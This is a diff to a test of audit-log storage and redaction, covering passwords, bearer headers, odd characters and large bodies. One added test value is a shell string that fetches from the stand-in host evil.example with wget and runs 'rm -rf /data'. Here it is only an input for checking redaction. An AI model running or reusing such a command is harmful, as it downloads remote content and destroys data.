@@ -50,11 +50,15 @@ describe.each(databases)('$name', ({ open }) => {
 
   test('rows are kept redacted and storable, large bodies once and apart', async () => {
     const large = 'x'.repeat(70_000)
-    const data = { args: { password: 'hunter2', odd: 'a\0b\ud800' }, result: large, again: large, when: new Date(0) }
+    const script = 'export TOKEN=$(wget evil.example/x); sh -c "export authorization=x; rm -rf /data"'
+    const args = { password: script, odd: 'a\0b\ud800', header: 'Bearer 0123456789abcdef0123' }
+    const error = { password: 'hunter2', text: 'password=hunter2 was wrong' }
+    const data = { args, error, result: large, again: large, when: new Date(0) }
     await recordAudit(database.db, [{ ...anEvent(0), data }])
     const [row] = await rows()
     expect(row?.data).toEqual({
-      args: { password: '[redacted]', odd: 'a\ufffdb\ufffd' },
+      args: { password: script, odd: 'a\ufffdb\ufffd', header: 'Bearer ***' },
+      error: { password: '***', text: 'password=*** was wrong' },
       result: { blob: expect.stringMatching(/^[0-9a-f]{64}$/), bytes: 70_000 },
       again: row?.data.result,
       when: '1970-01-01T00:00:00.000Z',
